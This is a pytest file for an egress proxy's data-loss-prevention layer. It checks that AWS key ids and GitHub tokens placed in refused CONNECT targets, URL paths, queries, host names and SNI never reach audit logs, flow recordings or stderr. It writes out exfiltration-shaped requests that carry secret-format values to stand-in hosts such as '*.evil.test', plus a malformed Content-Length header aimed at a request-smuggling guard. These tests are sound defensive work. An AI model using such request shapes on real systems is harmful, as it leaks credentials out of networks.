"""Secrets in the head of a request refused before DLP reads it never reach an artefact
(bypass row 17.f2).

The host allowlist, the path rules, the address and authority checks refuse a request in
`http_connect` or `requestheaders`, before DLP looks at it; its URL and host names are then
audited and recorded all the same, and they are often what carries the secret
(`CONNECT akia….evil.test:443`, `GET http://denied.test/v1/<token>`). Each case goes through
the real proxy with real secret shapes (an AWS key id, a GitHub token with a valid checksum),
in the path, the query and the host; the test checks what the client got (the refusal of the
rule that decided, not DLP's), that the origin saw nothing, and that no artefact (audit log,
`--record` flows, proxy stderr) holds either secret, in any letter case or encoding.
"""

from __future__ import annotations

import json
import socket
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import EgressFactory, PolicyWriter
from tests.support.artefacts import assert_nowhere, audit_events
from tests.support.origin import Origin
from tests.support.rawhttp import (
    Reply,
    connect_answer,
    exchange,
    plain_proxy_request,
    proxy_address,
    read_head,
)
from tests.test_dlp_e2e import github_token

AWS = "AKIAZBBU4KN55QIHJAMQ"  # an AWS access key id DLP's `aws-access-key-id` rule confirms
GHP = github_token("Zr8sN2qLw5XkV7mT1bH4cJ9dF6gP3y")  # checksum valid: `github-token`
POLICY = """
    version: 1
    hosts:
      allow:
        - hosts: [allowed.test]
          paths: ["/ok/"]
"""


def connect(proc: Any, target: str) -> Reply:
    """A CONNECT to `target` and the denial a client learns of it (inside the held tunnel)."""
    return connect_answer(proc, target)


def connect_only(proc: Any, target: str) -> Reply:
    """A CONNECT to `target` and the proxy's answer to it (a 200 opens a tunnel: no body)."""
    with socket.create_connection(proxy_address(proc), timeout=20) as sock:
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        head, _, body = read_head(sock).partition(b"\r\n\r\n")
        return Reply(int(head.split(b" ", 2)[1]), head.decode("latin-1"), body)


def get(url: str, host: str) -> bytes:
    return f"GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()


def nowhere_in_any_case(files: list[Path], proc: Any, *values: str) -> None:
    texts = {"audit log": proc.audit_path.read_text(), "stderr": proc.stderr(),
             **{str(p): p.read_bytes().decode("latin-1") for p in files}}
    for value in values:
        for name, text in texts.items():
            assert value.lower() not in text.lower(), f"{value!r} is in the {name}"


@pytest.fixture
def proxy(egress: EgressFactory, write_policy: PolicyWriter, tmp_path: Path) -> Any:
    proc: Any = egress(write_policy(POLICY), "--record", str(tmp_path / "flows.mitm"))
    proc.flows = tmp_path / "flows.mitm"
    return proc


def test_secrets_in_refused_connect_targets_reach_no_artefact(proxy: Any) -> None:
    targets = [f"{AWS.lower()}.evil.test:443",            # DNS-style lower case
               f"{GHP}.evil.test:443",
               f"{AWS[:9]}.{AWS[9:]}.evil.test:443"]      # split over two labels
    for target in targets:
        reply = connect(proxy, target)
        assert reply.status == 403, (target, reply)
        rule = reply.json()["rule"]
        assert not rule.startswith("dlp/"), rule  # refused by what refused it, not DLP
    proxy.stop()
    # one event per refused target: the request answered inside its held tunnel
    events = [e for e in audit_events(proxy) if str(e.get("host")).endswith(".evil.test")]
    assert len(events) == len(targets) and all(e["verdict"] == "block" for e in events)
    # the secret's label (the whole data part of the name) is gone, the zone is kept
    assert all(e["host"].startswith("[REDACTED") and e["host"].endswith(".evil.test")
               for e in events), [e["host"] for e in events]
    # what the scan found is on record, as audit findings beside the refusal
    extra = [f for e in events for f in e["findings"] if f["scanner"] == "dlp"]
    assert {f["rule"] for f in extra} == {"aws-access-key-id", "github-token"}
    assert all(f["action"] == "audit" and "refused already" in f["reason"] for f in extra)
    assert_nowhere(proxy, [AWS, GHP], [proxy.flows])
    nowhere_in_any_case([proxy.flows], proxy, AWS, GHP, AWS[9:])


def test_secrets_in_the_path_query_and_host_of_refused_requests_reach_no_artefact(
        proxy: Any, origin: Origin) -> None:
    port = origin.port
    refusals = [
        # plain-HTTP proxy requests refused by the host allowlist in `requestheaders`
        ("hosts/host-not-allowed", plain_proxy_request(proxy, get(
            f"http://denied.test:{port}/v1/{AWS}/x?{GHP}=1&q={GHP}", f"denied.test:{port}"))),
        ("hosts/host-not-allowed", plain_proxy_request(proxy, get(
            f"http://{AWS}.denied.test:{port}/x", f"{AWS}.denied.test:{port}"))),
        # an IP literal the proxy may not dial
        ("hosts/private-address", plain_proxy_request(proxy, get(
            f"http://10.0.0.7:{port}/{GHP}?t={AWS}", f"10.0.0.7:{port}"))),
        # an allowed host, a path no rule allows
        ("hosts/request-not-allowed", exchange(proxy, f"allowed.test:{port}", get(
            f"/admin/{GHP}?k={AWS}", f"allowed.test:{port}"), sni="allowed.test")),
        # a TLS SNI naming a host no rule allows, inside a tunnel to an allowed one: the
        # connection is condemned at the handshake, its requests refused (flow files keep SNI)
        ("hosts/host-not-allowed", exchange(proxy, f"allowed.test:{port}", get(
            f"/ok/{GHP}", f"allowed.test:{port}"), sni=f"{AWS}.allowed.test")),
        # inside a tunnel to allowed.test, a target naming another host
        ("hosts/authority-mismatch", exchange(proxy, f"allowed.test:{port}", get(
            f"https://{AWS}.other.test:{port}/ok/{GHP}", f"allowed.test:{port}"),
            sni="allowed.test")),
    ]
    for expected, reply in refusals:
        assert reply is not None and reply.status in (400, 403), (expected, reply)
        assert reply.json()["rule"] == expected, (expected, reply.json())
    # a head mitmproxy itself refuses (its request-smuggling guard): no scanner judged it
    invalid = exchange(proxy, f"allowed.test:{port}", (
        f"POST /ok/{GHP}?k={AWS} HTTP/1.1\r\nHost: allowed.test:{port}\r\nContent-Length: x\r\n"
        "Connection: close\r\n\r\n").encode(), sni="allowed.test")
    assert invalid is not None and invalid.status == 400
    assert origin.seen == []
    proxy.stop()
    events = [e for e in audit_events(proxy) if e.get("event") == "http"]
    assert len(events) == len(refusals) + 1
    assert all(e["verdict"] == "block" for e in events[:-1]) and "error" in events[-1]
    logged = json.dumps(events)
    assert logged.count("[REDACTED") >= len(refusals)
    # every refused request's secrets are on record, as audit findings beside the refusal
    # (DLP's own judgement of a refused request's authority, row 17.4, keeps its action)
    added = [[f for f in e["findings"] if "refused already" in f["reason"]] for e in events]
    assert all(added), events
    assert all(f["scanner"] == "dlp" and f["action"] == "audit" for fs in added for f in fs)
    assert {f["rule"] for fs in added for f in fs} == {"aws-access-key-id", "github-token"}
    assert_nowhere(proxy, [AWS, GHP], [proxy.flows])
    nowhere_in_any_case([proxy.flows], proxy, AWS, GHP)


def test_a_secret_in_a_connect_target_audit_mode_lets_through_is_not_logged(
        egress: EgressFactory, write_policy: PolicyWriter, tmp_path: Path) -> None:
    # audit mode: the tunnel is opened (and audited, for the host it was not allowed to reach)
    proc: Any = egress(write_policy("    mode: audit\n" + POLICY))
    reply = connect_only(proc, f"{AWS.lower()}.evil.test:443")
    assert reply.status == 200, reply
    proc.stop()
    events = [e for e in audit_events(proc) if e.get("event") == "connect"]
    assert len(events) == 1 and events[0]["verdict"] == "allow"
    assert events[0]["host"] == "[REDACTED].evil.test"
    assert {f["rule"] for f in events[0]["findings"]} >= {"host-not-allowed", "aws-access-key-id"}
    nowhere_in_any_case([], proc, AWS)
